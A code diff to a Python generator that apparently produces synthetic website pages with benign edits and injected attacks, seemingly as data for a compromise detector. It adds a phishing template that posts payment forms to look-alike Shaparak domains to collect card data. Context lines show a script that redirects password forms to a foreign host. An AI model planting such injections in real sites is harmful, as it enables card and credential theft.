@@ -656,8 +656,8 @@ def drupal(site, o, m):
         <div id="site-header__inner" class="site-header__inner" data-drupal-selector="site-header-inner">
           <div class="container site-header__inner__container">
 <div id="block-olivero-site-branding" class="site-branding block block-system block-system-branding-block">
-  <div class="site-branding__inner"><a href="/" rel="home" class="site-branding__logo"><img src="/sites/default/files/logo.svg" alt="{t("home")}" /></a>
-    <div class="site-branding__text"><div class="site-branding__name"><a href="/" title="{t("home")}" rel="home">{site.name()}</a></div></div></div>
+  <div class="site-branding__inner"><a href="/" rel="home" class="site-branding__logo"><img src="/sites/default/files/logo.svg" alt="{L["en" if site.lang == "en" else "fa"]["home"]}" /></a>
+    <div class="site-branding__text"><div class="site-branding__name"><a href="/" title="{L["en" if site.lang == "en" else "fa"]["home"]}" rel="home">{site.name()}</a></div></div></div>
 </div>
 <div class="header-nav-overlay" data-drupal-selector="header-nav-overlay"></div>
     <div class="mobile-buttons" data-drupal-selector="mobile-buttons"><button class="mobile-nav-button" data-drupal-selector="mobile-nav-button" aria-label="Main Menu" aria-controls="header-nav" aria-expanded="false"><span class="mobile-nav-button__label">Menu</span><span class="mobile-nav-button__icon"></span></button></div>
@@ -1463,7 +1463,7 @@ def b_youtube(site, r):
 def b_youtube_nocookie(site, r):
     vid = alnum(r, 11)
     return dict(main=f'''<figure class="wp-block-embed is-type-video is-provider-youtube wp-block-embed-youtube wp-embed-aspect-16-9 wp-has-aspect-ratio"><div class="wp-block-embed__wrapper">
-<iframe loading="lazy" title="{site.t("video")}" width="800" height="450" src="https://www.youtube-nocookie.com/embed/{vid}?feature=oembed&amp;rel=0" frameborder="0" allow="accelerometer; autoplay; clipboard-write; encrypted-media; gyroscope; picture-in-picture; web-share" allowfullscreen></iframe>
+<iframe loading="lazy" title="{L["en" if site.lang == "en" else "fa"]["video"]}" width="800" height="450" src="https://www.youtube-nocookie.com/embed/{vid}?feature=oembed&amp;rel=0" frameborder="0" allow="accelerometer; autoplay; clipboard-write; encrypted-media; gyroscope; picture-in-picture; web-share" allowfullscreen></iframe>
 </div></figure>
 '''), {}, []
 
@@ -1725,19 +1725,19 @@ GOV_PAY = [("epay.mefa.gov.ir", "/Payment/Start", "Ministry of Economic Affairs 
            ("ipg.tamin.ir", "/pay/request", "Social Security Organisation")]
 
 
-def b_payment(site, r):
-    t = site.t
-    if r.random() < 0.5:
-        host, path, field = r.choice(PSP)
+def b_payment(k):
+    """The k-th gateway: a Shaparak payment service provider, or the
+    payment gateway of a state body (another organisation of the
+    constituency, or the site's own organisation)."""
+    def f(site, r):
+        t = site.t
+        gw = PSP + [(h, p, "PaymentToken", org) for h, p, org in GOV_PAY]
+        g = gw[k % len(gw)]
+        host, path, field = g[:3]
         extra = []
-    else:
-        host, path, org = r.choice(GOV_PAY)
-        field = "PaymentToken"
-        if site.id == "aspnet_fa" and "tamin" in host:
-            extra = []  # the site's own organisation (own tamin.ir)
-        else:
-            extra = [f"other {reg(host)} {org}"]
-    return dict(main=f'''<section class="payment"><h2>{t("pay")}</h2>
+        if len(g) == 4 and reg(host) not in site.own:
+            extra = [f"other {reg(host)} {g[3]}"]
+        return dict(main=f'''<section class="payment"><h2>{t("pay")}</h2>
 <form method="post" action="https://{host}{path}" name="payform" accept-charset="utf-8">
   <label>{t("bill")} <input type="text" name="BillId" inputmode="numeric"></label>
   <label>{t("amount")} <input type="text" name="Amount" inputmode="numeric"></label>
@@ -1746,6 +1746,7 @@ def b_payment(site, r):
   <button type="submit">{L['en' if site.lang == 'en' else 'fa']['paybtn']}</button>
 </form></section>
 '''), {}, extra
+    return f
 
 
 def b_cdn_bump(site, r):
@@ -2324,6 +2325,22 @@ def a_form_hijack(site, r):
     return dict(form_action=tgt), {}, []
 
 
+def a_fake_gateway(site, r):
+    """A payment form that posts to an imitation of a Shaparak gateway:
+    card numbers and PINs collected by the attacker."""
+    host = r.choice(["sep-shaparak.ir.verify-pay.top", "shaparak-ir.com", "bpm.shaparak.ir-pay.xyz",
+                     "sep.shaparrak.ir", "ipg-shaparak.online"])
+    t = site.t
+    return dict(main=f'''<section class="payment"><h2>{t("pay")}</h2>
+<form method="post" action="https://{host}/OnlinePG/OnlinePG" name="payform" accept-charset="utf-8">
+  <label>{t("bill")} <input type="text" name="BillId" inputmode="numeric"></label>
+  <label>{t("amount")} <input type="text" name="Amount" inputmode="numeric"></label>
+  <input type="hidden" name="Token" value="{alnum(r, 32)}">
+  <button type="submit">{L['en' if site.lang == 'en' else 'fa']['paybtn']}</button>
+</form></section>
+'''), {}, []
+
+
 def a_form_js(site, r):
     tgt = f"https://{r.choice(FOREIGN)}/gate.php"
     return dict(end=f'''<script{{N}}>document.addEventListener('DOMContentLoaded',function(){{var f=document.querySelectorAll('form');for(var i=0;i<f.length;i++){{if(f[i].querySelector('input[type=password]')){{f[i].action='{tgt}';}}}}}});</script>
@@ -2423,7 +2440,6 @@ BENIGN = [
     ("captcha_hcaptcha", 2, FORMS, b_hcaptcha),
     ("captcha_turnstile", 2, FORMS, b_turnstile),
     ("captcha_arcaptcha", 3, FORMS, b_arcaptcha),
-    ("payment_gateway", 6, FORMS, b_payment),
     ("cdn_version_bump", 6, CDN, b_cdn_bump),
     ("cms_upgrade", 9, CMS, b_cms_upgrade),
     ("spa_bundle_hash", 2, SPA, b_spa_bundle),
@@ -2467,6 +2483,11 @@ ATTACK += [
 ]
 for k in range(LOOKALIKES):
     ATTACK.append(("script_lookalike", 1, ALL, a_lookalike(k)))
+for k in range(len(PSP) + len(GOV_PAY)):
+    BENIGN.append(("payment_gateway", 1, FORMS, b_payment(k)))
+# the site's own organisation's gateway (aspnet_fa belongs to tamin.ir)
+BENIGN.append(("payment_gateway", 1, ["aspnet_fa"], b_payment(len(PSP) + 2)))
+
 for method in HIDE_IFRAME:
     ATTACK.append((f"iframe_hidden_{method}", 2, ALL, a_iframe_hidden(method)))
 for i, method in enumerate(HIDE_BLOCK):
@@ -2478,6 +2499,7 @@ ATTACK += [
     ("seo_spam_offscreen", 1, ALL, a_seo_spam("offscreen", "id")),
     ("form_hijack", 5, FORMS, a_form_hijack),
     ("form_hijack_js", 2, FORMS, a_form_js),
+    ("form_fake_payment_gateway", 3, FORMS, a_fake_gateway),
     ("redirect_meta_refresh", 3, ALL, a_redirect_meta),
     ("redirect_js", 3, ALL, a_redirect_js),
     ("redirect_referrer", 3, ALL, a_redirect_referrer),
